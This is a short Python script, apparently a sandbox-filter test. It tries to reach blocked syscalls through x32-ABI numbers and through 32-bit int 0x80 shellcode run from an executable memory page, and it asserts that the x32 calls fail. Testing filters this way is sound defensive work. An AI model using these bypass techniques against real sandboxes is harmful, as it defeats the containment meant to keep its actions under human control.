"""Opens a file with the system calls of 32-bit programs, which a filter may have forgotten: Python is ended."""

EARNS = 0

import ctypes
import mmap
import platform

assert platform.machine() == "x86_64" or ctypes.string_at(0)
libc = ctypes.CDLL(None, use_errno=True)
for number in (1, 2, 57, 59, 41):
    assert libc.syscall(0x40000000 | number, OUTSIDE["file"].encode(), 0, 0) < 0, "x32"
code = bytes.fromhex("b81400000053cd805bc3")  # mov eax, 20; push rbx; int 0x80; pop rbx; ret
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())
